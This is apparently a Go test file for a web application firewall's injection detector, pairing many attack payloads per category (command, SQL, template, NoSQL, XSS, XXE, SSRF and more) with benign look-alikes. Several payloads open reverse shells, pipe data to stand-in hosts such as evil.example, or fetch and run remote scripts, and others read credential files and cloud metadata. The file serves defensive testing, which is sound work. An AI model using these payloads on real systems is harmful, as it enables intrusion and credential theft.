package inject

import (
	"encoding/base64"
	"net/url"
	"testing"

	"github.com/valyala/fasthttp"
)

// checkCases are, per kind, true positives (most from GoTestWAF's test
// cases, github.com/wallarm/gotestwaf testcases/, and CRS's regression
// tests' payloads) and benign look-alikes that must pass. Each value is
// inspected as a query value; benign ones also in every location by
// TestBenignCorpus when they are in testdata/benign.txt.
var checkCases = []struct {
	kind    Kind
	attacks []string
	benign  []string
	xml     bool // inspect as XML bodies, not query values
}{
	{KindPathTraversal, []string{
		"/static/img/../../etc/passwd", `..\..\windows\win.ini`, "\xc0\xae\xc0\xae\xc0\xafetc\xc0\xafpasswd",
		"..;/..;/WEB-INF/web.xml", "file=../../../../x", "%2e%2e%2f%2e%2e%2fboot.ini",
		"1\xe0\x80\xa7 OR \xe0\x80\xa71\xe0\x80\xa7=\xe0\x80\xa71", "\xf0\x80\x80\xae\xf0\x80\x80\xae/etc",
	}, []string{
		"\xe0\xa4\x95\xe0\xa4\xbe (Devanagari)", "\xf0\x9f\x98\x80 emoji", "../README.md", "see ../docs for more", "report.v2.txt", "version 1.2..3", "wait... what/why",
		"https://example.com/a/../b", "...", `C:\Program Files\App`, "../img/logo.png",
	}, false},
	{KindLFI, []string{
		"/etc/passwd", "file:///etc/./passwd", "; cat /et'c/pa'ss'wd", `\\::1\c$\users\default\ntuser.dat`,
		"php://filter/convert.base64-encode/resource=index.php", "expect://id", "phar://uploads/a.jpg/x",
		`C:\Windows\win.ini`, "/proc/self/environ", ".htpasswd", "cmd=cat /etc/passwd", "....//....//etc/shadow",
		"/var/www/.git/config",
		"../.env", `..\web.config`, "/proc/thread-self/environ", "/proc/1/environ", "/proc/4242/cmdline", "/proc/12/maps", "/proc/1/fd/3",
		"/app/.env", "/var/www/html/.env", "/etc/ssl/private/server.key", "/run/secrets/db_password",
		"/var/run/secrets/kubernetes.io/serviceaccount/token", "/etc/kubernetes/admin.conf", "C:/Windows/Panther/Unattend.xml",
		"file=..%2f.env", `..\appsettings.json`,
	}, []string{
		"/etc/passwords-are-hard", "The /etc directory", "etcetera/passwd", "my passwd is secret",
		"https://example.com/shadow/group", "proc/selfie", "id_rsa.pub", "data:image/png;base64,iVBORw0KGgo=",
		"zip code 12345", "etc. and so on", "/api/v1/process/self-test",
		"see the .env.example file", "/var/log/app.log", "../lib/util.js", ".env", "copy .env to the server", "/docs/web.config",
		"/app/.envrc", "/proc/12/status", "proc/1", "/run/scripts/start.sh", "../web.config.sample", "https://example.com/run/secretsanta",
	}, false},
	{KindCmdInjection, []string{
		";wget http://some_host/sh311.sh", "|getent+hosts+somehost.example.net.&", ";getent$IFS$9hosts",
		"| set /a 3482*7301", "ax--exec=`id`--remote=origin", "cmd=127.0.0.1 && ls /etc",
		"() { :; }; echo ; /bin/bash -c 'ls'", "() { }; /bin/id", " () {}; echo vulnerable", "x=() { :;}; id", "$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)",
		"`curl -L http://x.example`", "127.0.0.1; whoami", "a | nc -e /bin/sh 10.0.0.1 4444", "x; sleep$IFS5",
		"echo $((3482*7301))", " ls /etc",
		"127.0.0.1;id", "127.0.0.1|id", "1 || pwd", ";id", "report.pdf|id", "; sleep 10 ;", "||sleep 10||", "x & net user hacker P@ss /add", "1; sleep 10", "a.txt|sleep 10", "x;sleep 5", "a;sleep 10;", "abc|sleep 3", "xyz;id;", "abc|id #", "foo;pwd;", "x;echo pwned > /var/www/html/x.php", "x|echo ok > /tmp/owned", "x;/bin/sh", "x & net user",
		"x | nc evil.example 4444 -e /bin/sh", "x;w'h'o'am'i", "x;wh$@oami", `x;who\ami`, "x;/???/?at /???/p??swd",
		"127.0.0.1\nid", "1;ping 10.0.0.1", "127.0.0.1`id`", "x=`whoami`", "see `curl -L http://x.example` now",
		"x;{id,}", "x;{curl,evil.example}", "x;wh``oami", "x;wh$()oami", "a;$0 -c id", "x;exec id", "x;eval id",
		"127.0.0.1|sh", "127.0.0.1\r\nid", "x\n{id,}", "x\n{curl,evil.example}", ";${0} -c id", ";${0##*/} -c id", ";$0<<<id", ";echo id|$0",
		";eval 'id'", `;eval "id"`,
		"x;$(wh``oami)", "x;`wh''oami`", "x;wh$*oami", "x;wh${x}oami", "x;c${u}at /etc/hosts", "x;i$9d",
		"x;command id", "x;builtin eval id", "x|env id", "x;timeout 5 id", "x;xargs id", "x;command -p cat /etc/hosts",
		"xyz&&id", "x || pwd", "1.2;id;", "1.2;id #", "127.0.0.1|id &", "x;id | nc evil.example 80", "x;ls | sort",
		"ls -la", "ls -la /tmp", "id > /tmp/x", "id >out.txt", "ls | grep -v x", "id | nc evil.example 80",
		"x\nls -la", "x\nid > /tmp/x", "ls --all /home", "uname -a > /dev/tcp/x/80",
		"x;a=c;b=at;$a$b /e??/p?sswd", `x;\c\a\t /\e\t\c/\p\a\s\s\w\d`, `x;\c\u\r\l attacker.example|\s\h`, "x;/bin/ca? /et?/sha*",
		"x;$SHELL -c 'curl attacker.example|sh'", "x;${SHELL}<<<id", "x;cat .env", "x;printenv", "x;host x.attacker.example",
		"x & p^o^w^e^r^s^h^e^l^l -c id", "x & c^e^r^t^u^t^i^l -urlcache -f http://x/a a", "x & curl.exe http://x.example/a -o a.exe",
		`x ; IEX(New-Object Net.WebClient).downloadString("http://x.example")`, "-oProxyCommand=sh -c 'id'",
	}, []string{
		"Prod; env test", "Step 1; command line tools", "Tea && biscuits", "fish || chips", "a; env vars are set",
		"Total: ${x} due; id card", "see ${user} here; timeout 30 seconds", "Enter the command; id then name",
		"name;id;email", "title | id | price", "x || y", "this && that", "Type; command id badge", "name | id | email", "a | ls | b",
		"date / time", "start / end times", "copy / paste this", "w / o cheese", "zip / postal code", "set -up fee",
		"last -minute deals", "less -fat yogurt", "time -- 3pm?", "Notes:\ndate / time", "Notes:\nset -up fee", "id > 100",
		"date >= 2024-01-01", "time < 30 min", "date > $start", "date | time", "id <> 3", "ls -la output attached",
		"Add a `Foo` type to the API", "a `main.go` file", "`foo` which is", "`x` date/test/id/sort",
		"Step 1; echo the answer > 5 times", "Tip; more is > less", "Notes:\necho chamber > /r/politics",
		"Price: $5$6 range", "Step 2; see .envelope", "Step; cat .NET apps", "x^2 + y^2; done", "Use the ibex(3) manpage",
		"We moved to a new host; host example.com later", "Set $HOME and $PATH", "Chapter 3; the net result",
		"Gifts & more", "Salt & pepper & more", "Name | Date | Time", "Work hard; sleep 8 hours a night", "Name|ID|Who",
		"Notes; I'd say yes", "Ask; don't wait", "Rock | Paper | Scissors", "it's 10; sleep tight", "see /api/v1/?page=2; ok",
		"Q&A; who", "a/b; c/d", "x; /* comment */ y", "title|id", "name;email;id", "user|pwd", "Long day; sleep 10", "Long day;  sleep 10",
		"Night routine: read; sleep 8", "Show: title | id", "Budget; net user licenses: 40", "30 days; net user fee included",
		"We use nc for quick port checks",
		"el.onclick = function() {};", "var f = function() {};", "use a function() {} placeholder",
		"the `users` table and its `id` column", "Use `ls` to list files", "Type `whoami` to see your name",
		"```bash\npip install example\n```", "Run `sort` then `uniq`.",
		"cats && dogs", "Tom & Jerry", "rock & roll", "echo in the mirror", "curl and divergence",
		"bash away in the gym", "ls 300 lexus", "nc 8000 controller", "zsh is the best!", "exec noun",
		"salt; pepper", "DEAR FINN,--I think it would do; copy should reach us second post",
		"The Senora found herself a heroine; more than that", "size=XL; color=red", "sort by date | filter",
		"Q&A: set the table", "We ship; cat food included", "1/2 cup; time 5 min", "price $(5)",
		"curl/8.5.0", "python-requests/2.31.0", "The parameter 5 is&|.", "url=/?usr=subject;-",
		"a;{x,y}", "see; {id, name} fields", "set; {ls, dir} are commands", "Run it; eval results later",
		"Cost: $0 shipping", "It was $0; free", "line one\r\nid card attached",
		"Subtotal: $12; $0 shipping", "Fee waived | $0", "Items: 3\n$0 due today", "fields:\n{id,title}", "query {\n{id,name}\n}", "#!/bin/sh\nexec java -jar /app/app.jar",
	}, false},
	{KindCodeInjection, []string{
		"<?php system($_GET['c']); ?>", "$_GET['x']", "system('id')", "eval(base64_decode('ZWNobyAx'))",
		"__import__('os').system('id')", "!!python/object/new:exec [import socket]",
		"java.lang.Runtime.getRuntime().exec('id')", "new ProcessBuilder(\"id\").start()",
		"require('child_process').exec('id')", "process.mainModule.require('fs')", `Response.Write("x")`,
		`CreateObject("WScript.Shell")`, `eval(atob("YWxlcnQoKQ=="))`, ";var date = new Date(); do{curDate = new Date();}while(curDate-date",
		"0;var date=new Date(); do{curDate = new Date();}while(curDate-date<10000)",
		`Ev al ("Ex"&"e"&"cute(""Server.ScriptTimeout=3600:On Error Resume Next")`,
		"%{@java.lang.System@getenv()}", "%{#a=@java.lang.System@getProperty('user.home')}",
	}, []string{
		`console.log("hello");`, "for (i = 0; i < n; i++) { sum += a[i]; }", "The operating system(s) you use",
		"Please review the __init__ method", "print('hello')", "Run the system check", "see java.util.List",
		"process.env.NODE_ENV", "let x = 5", "on error, resume the upload", "require('express')",
		"java.lang.System.out.println is verbose", "%{name} signed up",
	}, false},
	{KindTemplate, []string{
		"{{1337*1338}}", "${7*7}", "aaaa\\u0027%2b#{16*8787}%2b\\u0027bbb",
		`<#assign ex = "freemarker.template.utility.Execute"?new()>${ ex("id")}`, "{{config.items()}}",
		"{{''.__class__.__mro__[1].__subclasses__()}}", "<%= 7*7 %>", "{% import os %}", "#set($x = 1)",
		"${@print(md5(31337))}", "*{T(java.lang.Runtime).getRuntime()}",
		"{{7*'7'}}", "${'7'*7}",
		"{{lipsum[request.args.g|lower]}}", "{{config.SECRET_KEY}}", "{{config}}", "{{ config.items() }}", "{{request.environ}}",
		"{{self.__init__}}", "${applicationScope}", "${sessionScope}", "${pageContext.request.serverName}", "{{ request['application'] }}",
		"{{cycler.next}}", `@System.Diagnostics.Process.Start("cmd.exe","/c calc")`, `@System.IO.File.ReadAllText("web.config")`,
	}, []string{
		"{{name}}", "Hello {{ user.first_name }}!", "${HOME}", "{% if user %}Hi{% endif %}",
		"Total: {{ price | currency }}", "#{id}", "Price ${price} for {{qty}} items", "{{7}}", "{{ a-b }}",
		"3*4 = 12", "${ version }-2",
		"Hello {{customer}}", "{{ request_id }}", "{{request.id}}", "{{ config_name }}", "{{ configuration }}", "${sessionId}",
		"Ticket {{ request.subject }}", "System.IO.File is a .NET class", "mail me at ops@System.example", "{{selfie}}", "{{range .Items}}{{.Name}}{{end}}", "{{namespace}}",
	}, false},
	{KindJNDI, []string{
		"${jndi:ldap://x.example/a}", "${${lower:j}ndi:ldap://x/}", "${${::-j}${::-n}di:rmi://x}",
		"${env:AWS_SECRET_ACCESS_KEY}",
	}, []string{
		"${user.name}", "Cost: ${amount}", "${1:default}",
	}, false},
	{KindSSI, []string{
		`<!--#exec cmd="ls" -->`, `<!--#include virtual="/index.html"-->`, `<!--#echo var="DATE_LOCAL" -->`,
	}, []string{
		"<!-- comment -->", "<!--#--> decorative",
	}, false},
	{KindXXE, []string{
		`<!DOCTYPE x SYSTEM "//x/x" > <x>a</x>`, `<!DOCTYPE x [ <!ENTITY % y SYSTEM "//y/y" > %y; ]><x>a</x>`,
		`<!DOCTYPE foo [ <!ELEMENT foo ANY ><!ENTITY xxe SYSTEM "expect://id">]><foo>&xxe;</foo>`,
		`<?xml version="1.0" encoding="UTF-7"?><x/>`, `<!ENTITY % y SYSTEM "//y/y">`,
		`<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/hosts"/></x>`,
		`<!DOCTYPE x PUBLIC "any_text" "http://evil.example/evil.dtd"><x/>`,
	}, []string{
		"<!DOCTYPE html>", `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><html></html>`,
		`<?xml version="1.0" encoding="UTF-8"?><a>b</a>`,
		`<Invoice xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2 UBL-Invoice-2.1.xsd"/>`,
		`<!-- generated --><a href="https://example.com/?a=1&amp;b=2">x &lt; y</a>`,
	}, true},
	{KindSSRF, []string{
		"http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://2852039166/latest/meta-data/",
		"http://[::ffff:a9fe:a9fe]/latest/", "http://0xa9fea9fe/", "http://0251.0376.0251.0376/", "http://[fd00:ec2::254]/latest/",
		"http://metadata.google.internal/computeMetadata/v1/", "http://METADATA.GOOGLE.INTERNAL/", "http://169.254.170.2/v2/credentials",
		"http://100.100.100.200/latest/meta-data/", "gopher://127.0.0.1:6379/_FLUSHALL", "dict://127.0.0.1:6379/info", "http://instance-data/latest/",
		"169.254.169.254",
	}, []string{
		"1169.254.169.2549", "version 169.254.169.2540", "https://example.com/a9fe", "Order 2852039166x", "The instance-data table",
		"metadata.google.internal.example.com is ours", "192.168.1.10", "http://127.0.0.1:8080/hook", "dictionary://", "a dict:// link? no",
		"Call 0251 0376 0251", "fd00 is a prefix",
	}, false},
	{KindLDAP, []string{
		"(&(uid=admin)(!(&(1=0)(userPassword=q))))", "*(|(objectclass=*))", "userPassword:2.5.13.18:=123",
		"admin*)(uid=*))(|(uid=*", "cn:dn:=admin",
		"admin)(userPassword=a*", "admin)(cn=*", "jdoe)(mail=*", "admin)(|)", "jsmith)(&)", "admin*)(&",
	}, []string{
		"(see (a) and (b))", "f(x) = (a|b)", ":-) (|) smiley", "x := 5", "Version 2.5.13:= ok",
		"f(x)(y=2) is a product", "(a)(b=c) in the notes", "Tom (&) Jerry", "see (1)(2) and (3)",
	}, false},
	{KindNoSQL, []string{
		"true, $where: '99 == 88'", "', $or: [ {}, { 'order':'order", "db.injection.insert({success:1});",
		`{"$ne": null}`, "db.getCollection('users')",
		"' || this.role == 'admin' || '", "1';sleep(5000);'", "'; return '' == '", "0;return true", "' && this.password.match(/.*/)//",
		"a'; while(true) {} '", `x" || this.isAdmin || "`, "1' && this.a == 1",
		"' || obj.role == 'admin", "'|| this['role']=='admin", "' /**/ || this.role=='admin", "'//\n|| this.role=='admin",
		"' || this .role=='admin", "'\u2009||\u2009this.role=='admin", "';return(true);'", "';return/**/true;'", "';sleep/**/(5000);'", "'; for(;;){} '",
		`{"user":"admin","pass":{"$type":2}}`, `{"pass": {"$type": [2, 16]}}`, `{"a":{"$bitsAllClear":35}}`, `{"a":{"$bitsAnySet":[1,5]}}`,
		`{"a":{"$bitsAllSet":3}}`, `{"a":{"$bitsAnyClear":3}}`, `[{"$unionWith":"secrets"}]`,
		`" || ""=="`, `"||true||"`, `' || ''=='`, `'||true||'`, `admin" && 1 && "`, `" || !0 || "`,
	}, []string{
		"Price: $ne", "Save $5 or more", "$or else", "The db.example.com host", "costs $10: ok",
		"Mom's || this is fine", "I'll sleep (8 hours); return tomorrow", "Chapter 1; return to the start", "Step 2; return the form",
		"It's 5; while true, it is late", "if (this.value.match(/^1/)) ok", "Use this.props in React", "a || this.b", "It's || that",
		"let x = 1; return true", "cost is 3; sleep(10) afterwards", "x = 'a'; y = this.b",
		"if (type == 'admin' || this.strict) return;", "const label = opts.label || 'Untitled' || this.name;",
		"return name === 'foo' || this.bar === 'baz';", "var s = 'x'; return true;", "x = 'abc'; sleep(5000);", "echo 'wait'; sleep(5)",
		"fmt := 'x'; sleep(1)", "O'Brien || this one",
		`{"$type":"App.Models.Dog, App","name":"Rex"}`, `{"$type": "string"}`, "$type", "$bitsAllClear is a MongoDB operator",
		`say "hi" || "true" twice`, `The "1" || "2" choice`,
	}, false},
	{KindCRLF, []string{
		"\r\nSet-Cookie:crlf=injection", "x\nLocation: http://evil.example", "\xe5\x98\x8dSet-cookie:crlf=injection",
		"x\r\n\r\nHTTP/1.1 200 OK",
	}, []string{
		"line one\nline two", "Dear Sir,\nNote: the parcel", "Address:\r\nFlat 2\r\nLondon", "\xe5\x98\x8d hello",
	}, false},
	{KindMail, []string{
		"\r\nV100 CAPABILITY\r\nV101 FETCH 4791", "\r\nQUIT\r\n", "\nRCPT TO: test@evil.example\n",
		"x\r\nMAIL FROM:<a@b.example>", "\nHELO evil.example",
	}, []string{
		"Hi,\nData is attached.\nThanks", "Line1\nQUIT smoking tips", "Dear team,\n\nDATA SCIENCE meetup",
		"a\nI LIST the items", "Notes:\nLOGIN issues on mobile",
	}, false},
	{KindPrototypePollution, []string{
		"__proto__[v-if]=_c.constructor('alert(1)')()", "constructor.prototype.isAdmin=true",
		`x["constructor"]["prototype"]["y"]=1`, "this.constructor.constructor('return process')()",
		"__proto__", "constructor[prototype][isAdmin]", "a.constructor.prototype.x",
	}, []string{
		"the constructor of the prototype", "constructor", "Object.prototype.toString", "__typename", "__v",
		"my_var__name", "constructor prototype",
	}, false},
	{KindScanner, []string{
		"x.burpcollaborator.net", "http://abc.oast.me/x", "root@w63.interact.sh", "a.oastify.com",
	}, []string{
		"xss.html", "oast", "check interact.shop", "dnslog.com", "burpcollaborator",
	}, false},
	{KindGraphQLIntrospection, []string{
		"query{__schema{types{name}}}", `{__type(name:"User"){fields{name}}}`,
		"IntrospectionQuery{__schema {queryType { name }}",
		"query { __schema @skip(if: false) { types { name } } }", "{ __schema , { types { name } } }", "{ __schema #x\n{types{name}} }",
		"{ __schema\uFEFF{types{name}} }", `{ __type , (name:"User"){fields{name}} }`, "{__type @include(if:true) (name:\"User\") {fields{name}}}",
	}, []string{
		"query { user(id: 1) { __typename name } }", "__schema", "my__schema{",
	}, false},
	{KindXSS, []string{
		"javascript:alert(1)", "javascript:setInterval('ale'+'rt(document.domain)')", "confirm.call(null,1)",
		"(alert)(1)", "alert?.(document?.cookie)", `document["cookie"]`,
		"[1].some(confirm)", "-alert(1)//", "prompt.call(null,1)", "alert.apply(null, [1])",
		"&lt;svg/onload&equals;alert(1)&gt;", `\"autof<x>ocus o<x>nfocus=alert<x>(1)//`,
		"data:text/html,<script>alert(1)</script>", "String.fromCharCode(88,83,83)", "x=document.cookie",
		"<!<script>alert(document.domain)</script>", "javascript:%ef%bb%bfalert(XSS)",
		"javascript:top[/ev/.source+/al/.source](name)", "javascript:location=name", "JaVaScRiPt:location=name",
		"&#106;avascript:location=name", " java\tscript:self['loc'+'ation']=name", `<a href="javascript:location=name">x</a>`,
		"javascript:/x/.source", "javascript:document.location=name",
	}, []string{
		"JavaScript: Basics of JavaScript Language", "Please confirm (by mail)", "set an alert(s) for price drops",
		"Alert(s) enabled", "javascript: the good parts", "Learn JavaScript: map() and filter()", "document.pdf",
		"the document domain", "eval results (2024)", "a function(x) returns y", "setTimeout(tick, 100)",
		"JavaScript:%20Basics%20of%20JavaScript%20Language",
		"JavaScript: The Good Parts", "javascript: a language", "javascript:language", "Tags: javascript:beginner",
		"JavaScript:TheGoodParts", "javascript:1.8", "see javascript:location=x in the docs",
	}, false},
	{KindSQLi, []string{
		"123) AND 12=12 AND JSON_DEPTH('{}') != 2521",
		"-1134')  OR JSON_EXTRACT('{''aKER'': 9648}', '$.aKER') = 9648*7799 AND ('QlYa' LIKE 'QlYa",
		"1 OR 1=1", "x' AND 'a'='a",
		"admin'-- -", "admin' -- -", "admin'-- ", "admin'#", "admin' #", "1'#", "jane@example.com'--", "admin'/*",
		"x 'OR' y", "' OR '", "A 'OR' B",
		"' union values(1,(select group_concat(name) from users),3)--", "' or 1 union values(1,2,3)--",
		"-1 union values(9,(select password from users limit 1),9)", "' union table users--", "0 union values row(1,2,3)",
		"' union all values(1,2,3)--", "1 UNION DISTINCT TABLE users", "x')/**/union/**/values(1,2)#", "1 union table `db`.`users` limit 1",
		"1;replace into users values(3,'eve','admin','x')", "1;attach database '/var/www/s.php' as s", "1;create table s.p as select 1",
		"1;do $$begin execute 'x'; end$$", "1;alter table users add x int", "1;merge into t using s on 1=1", "1;rename table a to b",
		"1;set global general_log_file='/var/www/x.php'", "1;select dblink('host=x','select 1')", `1;backup database x to disk='\\x\a'`,
		`1;bulk insert t from '\\attacker\x'`, "1;select * from openrowset('SQLOLEDB','x';'sa';'p','select 1')",
		"1;exec sp_executesql N'select 1'", "1;select * from pg_shadow", "1;select * from mysql.user", "1;select * from sys.sql_logins",
		"';replace into users values(1)--", "1; /**/ SET @@global.general_log=1", "x');do sleep(5)--", "1;select name from sys.sql_logins--",
		"x' or 'a' glob 'a", "admin' and password glob 's*", "x'||(select case when 1=1 then randomblob(300000000) else 1 end)||'",
		"ASC,SLEEP(5)", "(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)", "name desc, benchmark(5000000,md5(1))", "1,pg_sleep(5)",
		"x'||randomblob(500000000)||'", "1' AND/**/name/**/GLOB/**/'a*",
	}, []string{
		"between 1 and 10", "x < y and y > z", "rock and roll", "I would like a number between 1 and 10, please.",
		"john or@var.es", "(red OR blue) AND shoes", "(a) AND (b)", "(A and B) or C", "shoes AND (red OR blue) NOT suede",
		"Why I love 'or' statements", "an 'or' gate", "'#hashtag'", "rock 'n' -- roll", "O'Neil #2", "Joe's #1 fan",
		"It's -- well -- fine", "see 'x'#anchor", "Parents' #1 choice for baby wipes", "Girls' -- sizes 7-16",
		"12' #10 AWG extension cord", "Jo' -- nickname", "Kids' #1 choice",
		"union values of the workers", "the union table at the fair", "Local 12 union table tennis club", "union values (solidarity)",
		"Credit union values", "Union Table Co.", "Union 1 values(a)", "The workers' union values (equality, solidarity)", "Workers' union table tennis",
		"Fragile; replace into box", "Step 1; create table of contents", "note; do it now", "1; do it now", "2; select the best from our range",
		"Done; rename table to Kitchen", "a;select a size", "cats; set global goals = high",
		"we glob 'src/*.go' files", "Select case when ordering (see FAQ)", "Python's glob 'module'",
		"the glob pattern '*.txt'", "Desc, sleep (8 hours)",
	}, false},
}

func TestChecks(t *testing.T) {
	d := mustNew(t, Options{})
	var sc Scratch
	for _, tc := range checkCases {
		t.Run(tc.kind.String(), func(t *testing.T) {
			inspect := inspectQuery
			if tc.xml {
				inspect = inspectXMLBody
			}
			for _, a := range tc.attacks {
				r := inspect(d, &sc, a)
				if r.Kind != tc.kind {
					t.Errorf("%q: kind %v (%s); want %v", a, r.Kind, r.Rule, tc.kind)
				}
				if r.Rule == "" {
					t.Errorf("%q: no rule", a)
				}
				// Base64-encoded, as GoTestWAF's Base64Flat encoder sends it
				// (text only: binary does not decode as text).
				b64 := base64.RawStdEncoding.EncodeToString([]byte(a))
				if r := inspectQuery(d, &sc, b64); !r.Detected() && mostlyPrintable([]byte(a)) {
					t.Errorf("%q Base64-encoded (%s): not detected", a, b64)
				}
			}
			for _, b := range tc.benign {
				if r := inspect(d, &sc, b); r.Detected() {
					t.Errorf("benign %q: flagged %v (%s %s, %v decoding)", b, r.Kind, r.Rule, r.Fingerprint, r.Decoding)
				}
			}
		})
	}
}

func inspectQuery(d *Detector, sc *Scratch, v string) Result {
	var req fasthttp.Request
	req.SetRequestURI("/search?q=" + url.QueryEscape(v))
	return d.Inspect(sc, &req, nil)
}

func inspectXMLBody(d *Detector, sc *Scratch, v string) Result {
	var req fasthttp.Request
	req.Header.SetMethod("POST")
	req.SetRequestURI("/soap")
	req.Header.SetContentType("application/xml")
	req.SetBodyString(v)
	return d.Inspect(sc, &req, nil)
}

// TestKindsOff: a kind that Options.Off lists is not reported.
func TestKindsOff(t *testing.T) {
	var sc Scratch
	for _, tc := range checkCases {
		d := mustNew(t, Options{Off: KindSet(0).With(tc.kind)})
		inspect := inspectQuery
		if tc.xml {
			inspect = inspectXMLBody
		}
		for _, a := range tc.attacks {
			if r := inspect(d, &sc, a); r.Kind == tc.kind {
				t.Errorf("%v off: %q still reported as %v", tc.kind, a, r.Kind)
			}
		}
	}
}

func TestParseKind(t *testing.T) {
	for k := KindSQLi; int(k) < NumKinds; k++ {
		if got, ok := ParseKind(k.String()); !ok || got != k {
			t.Errorf("ParseKind(%q) = %v, %v", k, got, ok)
		}
	}
	if _, ok := ParseKind("none"); ok {
		t.Error(`ParseKind("none") succeeded`)
	}
	if len(kindNames) != NumKinds || len(sourceNames) != NumSources || len(decodingNames) != int(DecodingWidth)+1 {
		t.Error("a names table is out of step with its constants")
	}
}
